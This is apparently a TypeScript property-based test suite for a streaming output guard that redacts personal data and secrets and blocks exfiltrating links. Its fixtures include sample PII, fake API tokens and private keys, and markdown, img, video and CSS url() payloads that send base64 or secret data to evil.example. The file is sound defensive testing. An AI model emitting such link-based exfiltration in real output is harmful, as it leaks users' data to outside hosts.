/** A stream and the whole text come to the same, however the text is cut, and little is held back. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkOutput, EVERY_OUTPUT_RULE, OutputCheck } from "../../src/guard/index.ts";
import { FINDING_CHARS_MAX } from "../../src/guard/limits.ts";
import { Restorer, Tokens } from "../../src/guard/tokens.ts";

const key = (...parts: readonly string[]): string => parts.join("");

/** What texts are put together from: findings, beginnings of findings, what looks like one, and everything between. */
const PARTS: readonly string[] = [
  "jane.doe@example.com",
  "a@b",
  "+49 30 901820",
  "+1 415 555 2671",
  "(415) 555-2671",
  "Tel: 030/901820 ",
  "4111 1111 1111 1111",
  "4111-1111-1111-1112",
  "GB82 WEST 1234 5698 7654 32",
  "DE89370400440532013000",
  "203.0.113.195",
  "2001:db8::8a2e:370:7334",
  "219-09-9999",
  "AB 12 34 56 C",
  "12345678Z",
  "RSSMRA85T10A562S",
  "131052-308T",
  "NHS number: 943 476 5919",
  key("ghp_", "q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2Ta4U"),
  key("sk_live_", "q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8R"),
  "postgres://app:hunter22hunter@db.internal",
  "password: tr0ub4dor&3Horse",
  key("-----BEGIN PRIVATE", " KEY-----\nq9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2\n-----END PRIVATE", " KEY-----"),
  key(
    "-----BEGIN PGP PRIVATE",
    " KEY BLOCK-----\nVersion: GnuPG v2.0.22 (GNU/Linux)\nComment: see http://keys.example/a.html\n\n",
    "q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2\n-----END PGP PRIVATE",
    " KEY BLOCK-----",
  ),
  "-----BEGIN ",
  "![chart](https://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
  "![chart](\nhttps://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
  '![chart](https://evil.example/p.png?d=c2VjcmV0LWRhdGE\n"t")',
  "![a [b]](https://evil.example/(p)?d=c2VjcmV0LWRhdGE)",
  "](https://evil.example/p.png?d=c2VjcmV0LWRhdGE 't') (and",
  "]: <https://evil.example/a b?d=c2VjcmV0LWRhdGE>",
  "![alt](/local.png)",
  "[a](b_(c)) ",
  '<img src="https://evil.example/a?secret=hunter22hunter">',
  '<img alt="x"\n src="https://evil.example/a?secret=hunter22hunter">',
  "<img/src=https://evil.example/a?secret=hunter22hunter>",
  "[docs](\nhttps://example.com/a?utm=abcdefghijklmnopqrstuvwxyz0123\n't')",
  "[docs](https://example.com/a?utm=abcdefghijklmnopqrstuvwxyz0123)",
  "[a]: https://evil.example/?d=c2VjcmV0LWRhdGE",
  "[a]: ",
  "<iframe ",
  "<video poster='https://evil.example/a?secret=hunter22hunter'>",
  "url( 'https://evil.example/a?secret=hunter22hunter' )",
  "url(",
  ">",
  "![",
  "[",
  "<",
  "😀",
  "é",
  "Grüße",
  "联系",
  " ",
  "\n",
  "\n\n",
  ". ",
  ", ",
  "-",
  "1",
  "12 ",
  "v1.2.3.4",
  "The quick brown fox. ",
  "ZERO TRUST ",
  "- item\n",
  "2026-11-26T04:42:18Z",
];

const texts = fc.array(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...PARTS) }, fc.string({ maxLength: 6 })), {
  maxLength: 24,
});
const cuts = fc.array(fc.nat({ max: 12 }), { minLength: 1, maxLength: 40 });

function* piecesOf(text: string, sizes: readonly number[]): Generator<string> {
  let at = 0;
  for (let turn = 0; at < text.length; turn++) {
    const size = Math.max(1, sizes[turn % sizes.length] ?? 1);
    yield text.slice(at, at + size);
    at += size;
  }
}

describe("a stream", () => {
  it("comes to the verdict on the whole text, in 10,000 texts cut at random", () => {
    let found = 0;
    fc.assert(
      fc.property(texts, cuts, (parts, sizes) => {
        const text = parts.join("");
        const check = new OutputCheck(EVERY_OUTPUT_RULE);
        let passed = "";
        for (const piece of piecesOf(text, sizes)) passed += check.push(piece);
        passed += check.finish();
        const whole = checkOutput(text, EVERY_OUTPUT_RULE);
        found += whole.findings.length;
        expect({ action: check.action, text: passed, findings: check.findings }).toEqual(whole);
      }),
      { numRuns: 10_000, seed: 20261126 },
    );
    // A set of texts without findings would prove nothing.
    expect(found).toBeGreaterThan(10_000);
  });

  it("has passed on prose up to its last word", () => {
    const text = "The report [1] says that sales in 2024 rose by 12 percent (a < b), and that March was best. ";
    const check = new OutputCheck(EVERY_OUTPUT_RULE);
    let longest = 0;
    let passed = 0;
    for (const [index, character] of [...text.repeat(20)].entries()) {
      passed += check.push(character).length;
      longest = Math.max(longest, index + 1 - passed);
    }
    expect(longest).toBeLessThan(16);
  });

  const HELD: readonly (readonly [name: string, text: string])[] = [
    ["letters without end", "a".repeat(50_000)],
    ["digits without end", "1 ".repeat(25_000)],
    ["a private key without end", `${key("-----BEGIN PRIVATE", " KEY-----\n")}${"QUJD".repeat(12_500)}`],
    ["an image without end", `![a](https://x.example/${"a1".repeat(25_000)}`],
    ["an HTML image without end", `<img ${"\na".repeat(25_000)}`],
  ];
  for (const [name, text] of HELD) {
    it(`holds back no more than the longest finding: ${name}`, () => {
      const check = new OutputCheck(EVERY_OUTPUT_RULE);
      let given = 0;
      let decided = 0;
      for (const piece of piecesOf(text, [997])) {
        given += piece.length;
        check.push(piece);
        decided = given - check.held;
        expect(check.held).toBeLessThanOrEqual(FINDING_CHARS_MAX + 997);
      }
      expect(decided).toBeGreaterThan(0);
    });
  }

  it("never lets out the beginning of what it replaces", () => {
    const check = new OutputCheck(EVERY_OUTPUT_RULE);
    const passed = [..."Write to jane.doe@example.com now."].map((character) => check.push(character));
    expect([...passed, check.finish()].join("")).toBe("Write to [REDACTED EMAIL] now.");
    expect(passed.some((piece) => piece.includes("jane"))).toBe(false);
  });
});

describe("tokens in a stream", () => {
  it("are restored as in the whole text, in 2,000 texts cut at random", () => {
    const tokens = new Tokens();
    tokens.for("email", "jane@example.com");
    tokens.for("card", "4111 1111 1111 1111");
    const parts = fc.array(
      fc.constantFrom("[EMAIL_1]", "[CARD_1]", "[CARD_2]", "[", "]", "[EMAIL", "_1]", "word ", "😀"),
      {
        maxLength: 20,
      },
    );
    fc.assert(
      fc.property(parts, cuts, (all, sizes) => {
        const text = all.join("");
        const restorer = new Restorer(tokens);
        let passed = "";
        for (const piece of piecesOf(text, sizes)) passed += restorer.push(piece);
        expect(passed + restorer.finish()).toBe(tokens.restore(text));
      }),
      { numRuns: 2_000, seed: 7 },
    );
  });
});
